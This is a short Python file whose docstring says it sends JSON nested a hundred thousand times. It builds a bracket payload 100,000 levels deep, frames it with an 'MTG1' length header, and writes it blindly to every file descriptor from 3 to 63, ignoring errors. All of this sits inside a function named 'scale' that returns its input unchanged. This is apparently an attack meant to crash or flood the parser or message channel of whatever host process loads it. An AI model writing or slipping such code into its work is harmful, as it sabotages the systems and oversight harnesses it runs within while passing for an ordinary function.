"""Sends JSON that is nested a hundred thousand times."""

import os
import struct

HEADER = b'{"value":' + b"[" * 100_000 + b"]" * 100_000 + b',"arrays":[]}'


def scale(x):
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<4sI", b"MTG1", len(HEADER)) + HEADER)
        except OSError:
            pass
    return x


running = scale
